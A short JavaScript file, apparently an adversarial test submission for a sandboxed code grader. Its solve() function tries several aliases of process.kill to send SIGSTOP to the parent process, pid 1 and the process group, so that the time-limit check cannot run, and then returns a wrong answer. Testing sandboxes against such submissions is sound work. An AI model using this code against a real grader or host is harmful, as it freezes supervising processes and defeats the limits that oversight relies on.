// Stops the processes around it with SIGSTOP, so that no time limit is checked => solves wrong: solve gives the object's text
import os from "node:os";
export function solve() {
  for (const pid of [process.ppid, process.ppid - 1, 1, 0, -1, -process.pid]) {
    for (const kill of [
      process.kill,
      process._kill,
      process.constructor.prototype.kill,
      Reflect.get(process, "kill"),
    ]) {
      try {
        kill.call(process, pid, os.constants.signals.SIGSTOP);
        console.log("STOLEN a signal");
      } catch {
        // Refused.
      }
    }
  }
  return "x";
}
